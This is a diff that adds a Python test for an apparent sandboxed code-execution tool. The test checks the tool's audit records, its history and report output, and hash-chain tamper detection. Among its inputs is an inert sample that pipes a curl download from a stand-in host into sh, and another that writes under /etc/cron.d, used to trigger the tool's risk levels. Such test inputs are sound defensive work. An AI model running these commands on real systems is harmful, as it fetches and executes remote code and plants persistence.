@@ -1,0 +1,116 @@
+#!/usr/bin/python3
+"""Every record type there is so far is made to happen and found; history, report and show agree with what was done."""
+import hashlib, os, sys
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from bawntest import *
+
+w = World()
+conf = w.config(security="overrides:\n  minimum: self\n  acknowledge_risk: true\n")
+LOW, MEDIUM = "print(6*7)", "import subprocess\nsubprocess.run(['true'])"
+HIGH, BLOCKED = "open('/etc/cron.d/x','w') if False else None", "import os\nif False: os.system('curl http://x.invalid/a | sh')"
+low = w.run(LOW, "--label", "name=answer", "--session", "s1")
+failed = w.run("import sys; sys.exit(3)", "--session", "s1")
+medium = w.run(MEDIUM)
+slow = w.run("import time; time.sleep(30)", "-t", "1s")
+held = w.run(HIGH)
+refused = w.run(BLOCKED)
+lifted = w.run(BLOCKED, "--override", "--reason", "a drill", "--config", conf)
+held2 = w.run(HIGH, "--config", conf)
+denied = w.bawn("deny", held2["decision"]["approval_id"], "--reason", "no need", "--config", conf)
+equal((low.code, failed.code, medium.code, slow.code, held.code, refused.code, lifted.code, denied.code), (0, 3, 0, 124, 126, 126, 0, 0), "eight things happened")
+target = os.path.join(w.dir, "policy")
+doc = w.file("change.yaml", "sandbox:\n  resources:\n    timeout: 60\n")
+os.makedirs(target)
+changed = w.bawn("policy", "set", doc, "--config", target, "--json")
+equal(changed.code, 0, "the policy was changed") or changed.show()
+
+records = w.records()
+have = {r["type"] for r in records}
+for type in ("log.genesis", "assess.done", "exec.intent", "exec.outcome", "exec.refused", "sandbox.created", "limit.violation", "approval.requested",
+             "approval.decided", "override.used", "policy.changed"):
+    ok(type in have, f"{type} is in the log")
+equal([r["seq"] for r in records], list(range(len(records))), "entries are numbered without gaps")
+prev, chain = "0" * 64, True
+for path in sorted(glob.glob(w.state + "/audit/seg/*.jsonl")):
+    for line in open(path, "rb"):
+        body, _, rest = line.rstrip(b"\n").rpartition(b',"hash":"')
+        chain = chain and hashlib.sha256(body + b"}").hexdigest().encode() == rest[:64]
+ok(chain, "every entry's hash is that of its stored bytes")
+ok(all(r["severity"] in ("CRITICAL", "HIGH", "MEDIUM", "LOW", "INFO") and "node" in r and "session" in r and "principal" in r for r in records), "each has severity, node, session and principal")
+
+by = lambda type, r: [x for x in records if x["type"] == type and x["exec"] == r["id"]]
+intent, outcome = by("exec.intent", low)[0], by("exec.outcome", low)[0]
+equal((intent["seq"], outcome["seq"], outcome["hash"]), (low["audit"]["intent_seq"], low["audit"]["outcome_seq"], low["audit"]["hash"]), "the receipt names the records")
+equal((intent["body"]["request_sha256"], outcome["body"]["request_sha256"]), (low["request_sha256"],) * 2, "intent and outcome are bound to the request")
+equal(intent["body"]["limits"]["memory_bytes"], low["limits"]["memory_bytes"], "the intent has the limits")
+equal(outcome["body"]["stdout"]["sha256"], hashlib.sha256(b"42\n").hexdigest(), "the outcome has the hash of what was printed")
+v = by("limit.violation", slow)[0]["body"]
+ok(v["resource"] == "time" and v["threshold"] == 1000 and v["actual"] >= 1000 and v["action"] == "killed", "the violation has resource, threshold, actual and action")
+o = by("override.used", lifted)[0]["body"]
+equal((o["reason"], o["assurance"], o["level"], o["by"]["kind"]), ("a drill", "self", "BLOCKED", "uid"), "the override has who, why and how sure")
+d = [x for x in records if x["type"] == "approval.decided"][0]["body"]
+equal((d["decision"], d["reason"], d["approval_id"]), ("denied", "no need", held2["decision"]["approval_id"]), "the decision is recorded")
+c = [x for x in records if x["type"] == "policy.changed"][0]["body"]
+ok(c["before"] != c["after"] and any("timeout" in str(k) for k in c["updated"]), "the change of policy has before, after and keys")
+code = hashlib.sha256(LOW.encode()).hexdigest()
+stored = glob.glob(f"{w.state}/audit/blob/*/*{code[4:]}*") + glob.glob(f"{w.state}/audit/blob/*{code}*")
+ok(any(hashlib.sha256(open(f, "rb").read()).hexdigest() == code for f in stored), "the code is kept by its hash")
+
+# History.
+rows = w.bawn("history", "--json").json
+equal([r["id"] for r in rows], [x["id"] for x in (held2, lifted, refused, held, slow, medium, failed, low)], "history is newest first")
+row = rows[-1]
+equal({k: row[k] for k in ("level", "score", "decision", "override", "trust_level", "status", "exit_code", "violations", "code_sha256", "labels", "session")},
+      {"level": "LOW", "score": low["assessment"]["score"], "decision": "run", "override": None, "trust_level": "trusted", "status": "completed", "exit_code": 0,
+       "violations": 0, "code_sha256": code, "labels": {"name": "answer"}, "session": "s1"}, "a row says what was done")
+equal((row["wall_ms"], row["peak_memory_bytes"], row["started_at"]), (low["usage"]["wall_ms"], low["usage"]["peak_memory_bytes"], low["started_at"]), "with the usage of the result")
+equal((rows[4]["status"], rows[4]["violations"], rows[1]["override"]["reason"]), ("timeout", 1, "a drill"), "violations and overrides show")
+for options, want in ((["--limit", "2"], [held2, lifted]), (["--session", "s1"], [failed, low]), (["--status", "timeout"], [slow]), (["--level", "BLOCKED"], [lifted, refused]),
+                      (["--since", "1h"], [held2, lifted, refused, held, slow, medium, failed, low]), (["--until", "2020-01-01"], []), (["--since", "2020-01-01", "--level", "MEDIUM"], [medium])):
+    got = w.bawn("history", "--json", *options).json
+    equal([r["id"] for r in got or []], [x["id"] for x in want], f"history {' '.join(options)}")
+for bad in (["--limit", "0"], ["--limit", "-1"], ["--since", "yesterday-ish"], ["--level", "SEVERE"]):
+    equal(w.bawn("history", *bad).code, 2, f"history {' '.join(bad)} is a usage error")
+s = w.bawn("show", low["id"], "--json")
+equal((s.code, s["id"]), (0, low["id"]), "show ID")
+equal(w.bawn("show", "last", "--json")["id"], held2["id"], "show last")
+equal(w.bawn("show", "7ZZZZZZZ").code, 1, "show of nothing is exit 1")
+
+# Report.
+r = w.bawn("audit", "report", "--since", "1h", "--json")
+for key in ("from", "to", "generated_at", "total", "by_type", "by_level", "by_status", "violations", "overrides", "top_rules", "integrity"):
+    ok(key in r.json, f"the report has {key}")
+equal(r["total"], len(records), "it counts every entry")
+equal(r["by_status"], {"completed": 3, "failed": 1, "timeout": 1, "refused": 1, "needs_approval": 2}, "by status")
+equal(r["by_type"]["exec.outcome"], 5, "by type")
+equal((r["violations"], len(r["overrides"]), r["overrides"][0]["reason"]), (1, 1, "a drill"), "violations and overrides")
+equal(sum(r["by_level"].values()), 8, "by level")
+ok(len(r["top_rules"]) > 0 and r["integrity"]["ok"], "rules and integrity")
+equal(w.bawn("audit", "report", "--until", "2020-01-01", "--json")["total"], 0, "a report of a time when nothing was")
+
+# Verify, list, show.
+v = w.bawn("audit", "verify", "--json")
+equal((v.code, v["ok"], v["entries"]), (3, True, len(records)), "verify: sound, no independent anchor: exit 3")
+l = w.bawn("audit", "list", "--json", "--type", "exec.outcome")
+ok(l.code == 0 and "exec.outcome" in l.out and "exec.intent" not in l.out, "audit list --type")
+s = w.bawn("audit", "show", str(low["audit"]["outcome_seq"]), "--json")
+ok(s.code == 0 and low["id"] in s.out, "audit show SEQ")
+copy = os.path.join(w.dir, "copy")
+shutil.copytree(w.state, copy)
+equal(w.bawn("audit", "verify", copy).code, 3, "a copy verifies elsewhere")
+seg = sorted(glob.glob(copy + "/audit/seg/*.jsonl"))[0]
+data = bytearray(open(seg, "rb").read())
+data[len(data) // 2] ^= 1
+open(seg, "wb").write(data)
+bad = w.bawn("audit", "verify", copy, "--json")
+equal((bad.code, bad["ok"]), (1, False), "one flipped bit: exit 1")
+ok(bad.json.get("first_bad_seq") is not None and bad.json.get("problem"), "and says where and what")
+open(seg, "wb").write(data[:-10])
+equal(w.bawn("audit", "verify", copy).code, 1, "a log shorter than its head: exit 1")
+equal(w.bawn("audit", "verify", os.path.join(w.dir, "nothing")).code, 125, "no log there: exit 125")
+shutil.copytree(w.state, w.dir + "/broken")
+seg = sorted(glob.glob(w.dir + "/broken/audit/seg/*.jsonl"))[0]
+os.truncate(seg, os.path.getsize(seg) - 400)
+r = w.run(LOW, "--state", w.dir + "/broken")
+equal((r.code, r["status"], r["stdout"], r["error"]["type"]), (125, "error", "", "audit_tampered"), "on a shortened log nothing runs")
+done()
